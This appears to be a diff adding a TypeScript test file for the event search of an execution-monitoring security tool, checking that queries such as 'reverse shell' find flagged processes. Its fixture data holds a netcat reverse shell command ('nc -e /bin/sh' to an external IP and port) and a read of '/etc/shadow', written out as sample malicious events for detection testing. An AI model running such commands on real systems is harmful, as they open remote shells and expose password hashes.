@@ -1,0 +1,95 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+
+import type { ExecutionEvent } from '@vedette/core';
+import { ExecutionScorer, shapeOf } from '@vedette/executions';
+
+import type { EventPage, EventQuery, EventRow } from '../store/events/event-store.ts';
+import { createSearch, type Search } from './search-events.ts';
+
+const NOW_MS = Date.UTC(2026, 0, 10);
+const HOUR_MS = 3_600_000;
+
+/** What happened, as `workload host hours-ago score line`. */
+const HISTORY = [
+  'web web-1 30 0 php-fpm: pool www',
+  'web web-1 20 0 ls -l /srv/www',
+  'web web-1 3 0.97 nc -e /bin/sh 203.0.113.7 4444',
+  'web web-2 2 0.98 nc -e /bin/sh 203.0.113.7 4444',
+  'db db-1 4 0.9 cat /etc/shadow',
+  'db db-1 1 0 pg_dump shop',
+];
+
+const events = HISTORY.map((line) => {
+  const [workload = '', host = '', hours, score, ...argv] = line.split(' ');
+  const event: ExecutionEvent = {
+    ...{ t: NOW_MS - Number(hours) * HOUR_MS, host, workload, pid: 7, ppid: 1, uid: 0 },
+    ...{ comm: argv[0] ?? '', parent: 'sh', exe: argv[0] ?? '', argv, kind: 'exec' as const },
+  };
+  return { event, score: Number(score) };
+});
+
+const rows: readonly EventRow[] = events.map(({ event, score }, index) => ({
+  ...{ org: 'acme', position: 1, index, receivedMs: event.t, event, shape: shapeOf(event).key },
+  ...{ score, p: null, state: 'watching', threshold: 0.8, reasons: [], nearest: null },
+  finding: null,
+}));
+
+/** The events of the history, listed as a store does. */
+async function list(query: EventQuery): Promise<EventPage> {
+  const fits = ({ event, score, shape }: EventRow): boolean =>
+    event.t >= query.fromMs &&
+    (query.shapes === undefined || query.shapes.includes(shape ?? '')) &&
+    (query.workload === undefined || query.workload === event.workload) &&
+    (query.host === undefined || query.host === event.host) &&
+    (query.minScore === undefined || (score ?? 0) >= query.minScore);
+  const found = rows.filter(fits).toSorted((a, b) => b.event.t - a.event.t);
+  return { rows: found.slice(0, query.limit), next: found.length > query.limit ? 'more' : null };
+}
+
+function searchOfHistory(): Search {
+  const scorer = new ExecutionScorer({ prior: null });
+  for (const { event } of events) scorer.learn(event);
+  return createSearch({
+    events: { list },
+    nowMs: () => NOW_MS,
+    shapes: function* (org) {
+      if (org !== 'acme') return;
+      for (const { name: workload, baseline } of scorer.workloads())
+        for (const record of baseline.shapes) yield { workload, record };
+    },
+  });
+}
+
+describe('a search', () => {
+  const search = searchOfHistory();
+  const hosts = async (question: string, org = 'acme'): Promise<string[]> => {
+    const { results } = await search.find({ org, question, limit: 10 });
+    return results.map(({ row }) => `${row.event.host} ${row.event.argv[0]}`);
+  };
+
+  test('finds the newest execution of what behaves like it', async () => {
+    assert.deepEqual((await hosts('anything that looks like a reverse shell'))[0], 'web-2 nc');
+    assert.deepEqual((await hosts('who read the password hashes'))[0], 'db-1 cat');
+  });
+
+  test('keeps to its filters', async () => {
+    assert.deepEqual(await hosts('reverse shell host:web-1'), ['web-1 nc']);
+    assert.deepEqual(await hosts('reverse shell workload:d*'), []);
+    assert.deepEqual(await hosts('reverse shell last:90m'), []);
+    assert.deepEqual(await hosts('score:>0.95'), ['web-2 nc', 'web-1 nc']);
+    assert.deepEqual(await hosts('score:>0.8 -workload:web'), ['db-1 cat']);
+  });
+
+  test('finds nothing of another organisation, and nothing for nothing', async () => {
+    assert.deepEqual(await hosts('reverse shell', 'other'), []);
+    assert.deepEqual(await hosts('   '), []);
+  });
+
+  test('says how it was understood', async () => {
+    const question = 'score:high reverse shell';
+    const { query } = await search.find({ org: 'acme', question, limit: 1 });
+    assert.equal(query.text, question);
+    assert.equal(query.notes.length, 1);
+  });
+});
